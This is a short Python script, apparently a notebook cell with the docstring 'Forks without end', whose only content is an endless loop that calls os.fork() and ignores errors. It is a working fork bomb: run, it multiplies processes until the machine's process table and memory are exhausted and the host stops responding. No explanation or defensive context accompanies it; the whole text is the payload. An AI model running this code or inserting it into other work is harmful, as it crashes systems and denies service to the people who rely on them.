"""Forks without end."""
# %% first
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
